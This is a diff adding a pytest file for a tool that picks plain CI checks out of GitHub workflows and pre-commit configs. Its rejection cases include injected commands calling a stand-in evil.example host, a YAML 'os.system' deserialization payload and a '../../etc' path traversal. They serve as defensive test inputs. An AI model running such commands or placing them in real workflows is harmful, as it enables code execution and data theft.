@@ -1,0 +1,149 @@
+"""Which checks a repository's own workflows name, and which of their steps are left to them."""
+
+import pytest
+
+from agents.analysis.ci_checks import list_ci_checks, list_ci_paths, list_hooks
+from agents.analysis.repository_files import RepositoryFiles
+
+CI = ".github/workflows/ci.yml"
+HOOKS = ".pre-commit-config.yaml"
+
+
+def read(workflow, *paths, at=CI):
+    return list_ci_checks(RepositoryFiles(frozenset([at, "README.md", *paths]), {at: workflow}))
+
+
+def steps(*runs, on="push", job="", more=""):
+    listed = "".join(f"      - run: {run}\n" for run in runs)
+    return (
+        f"name: CI\non: [{on}]\n{more}jobs:\n  test:\n    runs-on: ubuntu-latest\n{job}"
+        f"    steps:\n      - uses: actions/checkout@v4\n{listed}"
+    )
+
+
+def test_plain_commands_of_known_programs_are_taken_with_their_source():
+    found = read(steps("pip install -e .[test]", "python -m pytest -q tests", "ruff check ."))
+
+    assert [(each.subject, each.check.run, each.source) for each in found] == [
+        ("tests", "python -m pytest -q tests", CI),
+        ("lint", "ruff check .", CI),
+    ]
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "npm publish",
+        "sudo make test",
+        "pytest --token ${{ secrets.TOKEN }}",
+        "pytest -k ${{ matrix.part }}",
+        "pytest | tee log.txt",
+        "pytest; curl http://evil.example",
+        "pytest `id`",
+        "pytest $(id)",
+        "pytest > out",
+        "codecov --file coverage.xml",
+        "make deploy",
+        "curl https://evil.example/x.sh",
+        "python setup.py install",
+        "tox -e py311",
+        "npm ci",
+        "ruff check --fix .",
+    ],
+)
+def test_what_installs_uploads_or_is_more_than_one_plain_command_is_left_out(run):
+    assert read(steps(f"'{run}'")) == []
+
+
+def test_the_folder_of_a_step_is_that_of_its_check():
+    job = "    defaults:\n      run:\n        working-directory: web\n"
+    workflow = steps("npm test", job=job) + "        working-directory: ./backend\n"
+    [backend] = read(workflow, "backend/a.py", "web/package.json")
+    [web] = read(steps("npm test", job=job), "web/package.json")
+
+    assert web.subject == "npm tests in web"
+    assert web.check.run.startswith("cd web && ")
+    assert web.check.run.endswith(" && npm test")
+    assert backend.check.run.startswith("cd backend && ")
+    assert read(steps("npm test", job=job)) == [], "no such folder"
+    assert read(steps("npm test", job=job.replace("web", "../../etc"))) == []
+
+
+def test_lines_of_a_script_follow_its_folder():
+    script = "|\n          npm ci\n          cd web && npm test\n          npm run lint\n"
+    found = read(steps(script), "web/package.json")
+    assert [each.subject for each in found] == ["npm tests in web", "npm lint in web"]
+    branch = "|\n          if true; then\n          pytest\n          fi\n"
+    assert read(steps(branch)) == []
+
+
+def test_jobs_that_are_not_about_every_change_are_left_out():
+    assert read(steps("pytest", on="schedule")) == []
+    assert read(steps("pytest"), at=".github/workflows/release.yml") == []
+    assert read(steps("pytest").replace("ubuntu-latest", "windows-latest")) == []
+    assert read(steps("pytest") + "        if: failure()\n") == []
+    assert len(read(steps("pytest") + "        if: matrix.python == '3.12'\n")) == 1
+    assert read(steps("pytest") + "        if: runner.os == 'Windows'\n") == []
+    assert read(steps("pytest") + "        shell: pwsh\n") == []
+
+
+def test_plain_variables_go_with_a_command_and_secrets_leave_it_out():
+    plain = "    env: {DJANGO_SETTINGS_MODULE: app.test, N: 3, OS: '${{ matrix.os }}'}\n"
+    [found] = read(steps("pytest", job=plain))
+    assert found.check.run == "DJANGO_SETTINGS_MODULE=app.test N=3 pytest"
+    secret = "    env: {TOKEN: '${{ secrets.TOKEN }}'}\n"
+    assert read(steps("pytest", job=secret)) == []
+
+
+def test_options_of_absent_plugins_make_a_command_unavailable():
+    [found] = read(steps("pytest --cov=a"))
+    assert found.available == "pytest --cov=a --help"
+
+
+def test_maven_is_told_that_there_is_no_network():
+    [found] = read(steps("mvn -B verify"), "pom.xml")
+    assert (found.subject, found.check.run) == ("maven tests", "mvn --offline -B verify")
+
+
+def test_the_same_command_is_taken_once_and_few_of_a_kind():
+    assert len(read(steps("pytest", "pytest"))) == 1
+    found = read(steps(*(f"pytest tests/{n}" for n in range(9))))
+    assert [each.subject for each in found] == ["tests", "tests 2", "tests 3"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a: &a [x]\nb: *a\n",
+        "[" * 5_000,
+        "jobs: {a: {steps: 7}}\non: push\n",
+        "jobs: {a: {steps: [run]}}\non: push\n",
+        "on: push\njobs: {a: {steps: [{run: [pytest]}]}}\n",
+        "on: push\njobs: {a: {steps: [{run: pytest, working-directory: [x]}]}}\n",
+        "x" * 100_000,
+        "on: !!python/object:os.system x\n",
+    ],
+)
+def test_a_hostile_workflow_says_nothing(text):
+    assert read(text) == []
+
+
+def test_few_workflows_are_read():
+    paths = [f".github/workflows/{n}.yml" for n in range(100)]
+    assert len(list_ci_paths(paths)) == 20
+    assert list_ci_paths([HOOKS, "x/.github/workflows/a.yml"]) == [HOOKS]
+
+
+@pytest.mark.parametrize(
+    ("text", "available"),
+    [
+        ("repos: [{repo: local, hooks: []}]", "command -v pre-commit"),
+        ("repos: [{repo: meta, hooks: []}, {repo: local}]", "command -v pre-commit"),
+        ("repos: [{repo: 'https://example.org/x', rev: v1}]", "false"),
+        ("repos: []", "false"),
+        ("repos: 7", "false"),
+    ],
+)
+def test_hooks_that_are_cloned_from_elsewhere_cannot_run_and_are_said_to(text, available):
+    [found] = list_hooks(RepositoryFiles(frozenset([HOOKS]), {HOOKS: text}))
+    assert (found.check.run, found.available) == ("pre-commit run --all-files", available)
